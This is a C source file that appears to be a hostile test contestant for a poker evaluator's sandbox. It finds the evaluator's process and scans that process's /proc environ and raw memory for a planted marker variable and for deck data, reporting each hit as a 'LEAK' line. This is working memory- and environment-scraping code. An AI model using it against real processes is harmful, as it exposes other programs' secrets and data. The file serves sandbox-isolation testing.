/* read_parent_memory: reads the evaluator's /proc/<ppid>/environ, then
 * every readable mapping listed in /proc/<ppid>/maps through
 * /proc/<ppid>/mem, looking for "POKER_HOSTILE_MARKER=" (a variable the
 * test puts in the evaluator's environment; the evaluator removes POKER_*
 * variables from a contestant's, so the value can only come from the
 * evaluator) and for decks (24 card tokens in a row, as a deck file holds
 * them; the built-in decks are in the evaluator's program too, so it
 * prints every distinct one, up to 32). Prints "LEAK: environ: ...",
 * "LEAK: mem ...: ..." and "LEAK: deck in mem ...: ..." for what it finds. Then plays round robin. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "poker.h"

/* The evaluator: the nearest ancestor named `poker`, found by walking
 * /proc/<pid>/stat from /proc/self (getppid() names no process outside a
 * PID namespace, where --sandbox off starts programs). 0 if none. */
static pid_t find_evaluator(void)
{
    char path[64], buf[512], *open_paren, *close_paren;
    int pid = 0, ppid, depth;
    for (depth = 0; depth < 64; depth++) {
        FILE *f;
        size_t n;
        if (depth == 0) snprintf(path, sizeof path, "/proc/self/stat");
        else snprintf(path, sizeof path, "/proc/%d/stat", pid);
        f = fopen(path, "r");
        if (!f) return 0;
        n = fread(buf, 1, sizeof buf - 1, f);
        fclose(f);
        buf[n] = 0;
        open_paren = strchr(buf, '(');
        close_paren = strrchr(buf, ')');
        if (!open_paren || !close_paren) return 0;
        if (depth > 0 && close_paren - open_paren == 6 && !strncmp(open_paren + 1, "poker", 5))
            return pid;
        if (sscanf(close_paren + 2, "%*c %d", &ppid) != 1 || ppid <= 0) return 0;
        pid = ppid;
    }
    return 0;
}

static const char MARKER[] = "POKER_HOSTILE_MARKER=";

static void print_value(const char *where, const char *start, const char *end)
{
    const char *stop = start;
    while (stop < end && *stop > ' ' && *stop < 127 && stop - start < 200) stop++;
    fprintf(stderr, "LEAK: %s: %.*s\n", where, (int)(stop - start), start);
}

static int is_card(const char *p)
{
    return strchr("9TJQKA", p[0]) && p[0] && strchr("SHDC", p[1]) && p[1];
}

/* A run of 24 "XX " tokens starting at p (end excluded). */
static int is_deck(const char *p, const char *end)
{
    int k;
    if (end - p < 24 * 3 - 1) return 0;
    for (k = 0; k < 24; k++, p += 3)
        if (!is_card(p) || (k < 23 && p[2] != ' ')) return 0;
    return 1;
}

static void attack(void)
{
    char path[64], line[512];
    static char buf[1 << 16];
    pid_t parent = find_evaluator();
    FILE *f, *maps;
    int mem, found_marker = 0, decks = 0, k;
    static char seen[32][72];
    size_t n;
    if (parent <= 1) { fprintf(stderr, "no evaluator visible (ppid %d)\n", (int)parent); return; }

    snprintf(path, sizeof path, "/proc/%d/environ", (int)parent);
    f = fopen(path, "r");
    if (f) {
        n = fread(buf, 1, sizeof buf - 1, f);
        fclose(f);
        buf[n] = 0;
        {
            const char *p;
            for (p = buf; p < buf + n; p += strlen(p) + 1)
                if (strncmp(p, MARKER, sizeof MARKER - 1) == 0) print_value("environ", p, buf + n);
        }
    } else perror(path);

    snprintf(path, sizeof path, "/proc/%d/maps", (int)parent);
    maps = fopen(path, "r");
    snprintf(path, sizeof path, "/proc/%d/mem", (int)parent);
    mem = open(path, O_RDONLY);
    if (!maps || mem < 0) { perror("maps/mem"); if (maps) fclose(maps); if (mem >= 0) close(mem); return; }
    while (fgets(line, sizeof line, maps) && !(found_marker && decks == 32)) {
        unsigned long lo, hi, at;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r') continue;
        if (strstr(line, "[vvar")) continue;
        for (at = lo; at < hi && !(found_marker && decks == 32);) {
            size_t want = hi - at < sizeof buf ? hi - at : sizeof buf;
            ssize_t got = pread(mem, buf, want, (off_t)at);
            const char *p;
            if (got <= 0) break;
            for (p = buf; p < buf + got; p++) {
                if (!found_marker && *p == 'P' && buf + got - p > (long)sizeof MARKER
                    && memcmp(p, MARKER, sizeof MARKER - 1) == 0) {
                    char where[64];
                    snprintf(where, sizeof where, "mem at %#lx", at + (unsigned long)(p - buf));
                    print_value(where, p, buf + got);
                    found_marker = 1;
                }
                if (decks < 32 && is_deck(p, buf + got)) {
                    for (k = 0; k < decks && memcmp(seen[k], p, 71) != 0; k++) {}
                    if (k == decks) {
                        memcpy(seen[decks++], p, 71);
                        fprintf(stderr, "LEAK: deck in mem at %#lx: %.71s\n",
                                at + (unsigned long)(p - buf), p);
                    }
                }
            }
            /* Overlap reads so a string across two buffers is not missed. */
            at += (unsigned long)got > 128 ? (unsigned long)got - 128 : (unsigned long)got;
        }
    }
    fclose(maps);
    close(mem);
    if (!found_marker) fprintf(stderr, "no marker in the evaluator's memory\n");
}

int main(void)
{
    int i, v, c;
    attack();
    p_startgame();
    for (i = 1; i <= 20; i++) { p_look(&v, &c); p_place((i - 1) % 4 + 1); }
    return 0;
}
